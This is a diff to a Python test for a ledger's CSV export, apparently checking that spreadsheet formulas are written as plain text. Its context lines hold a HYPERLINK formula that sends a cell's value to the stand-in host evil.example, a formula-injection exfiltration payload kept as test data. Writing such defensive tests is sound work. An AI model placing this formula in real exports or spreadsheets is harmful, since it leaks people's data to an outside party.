@@ -16,6 +16,7 @@ from pathlib import Path
 from domain.records import AuditEvent
 from ledger import open_ledger
 from ledger.audit import append
+from tests.anchors import anchor_in
 
 HANDOVER = str(Path(sys.executable).with_name("handover"))
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open ticket")'
@@ -36,7 +37,7 @@ def _export(url: str, fmt: str) -> str:
 
 def test_the_csv_export_writes_formulas_as_text(tmp_path: Path) -> None:
     url = f"sqlite:///{tmp_path / 'ledger.db'}"
-    db = open_ledger(url)
+    db = open_ledger(url, anchor=anchor_in(tmp_path))
     append(
         db,
         AuditEvent(
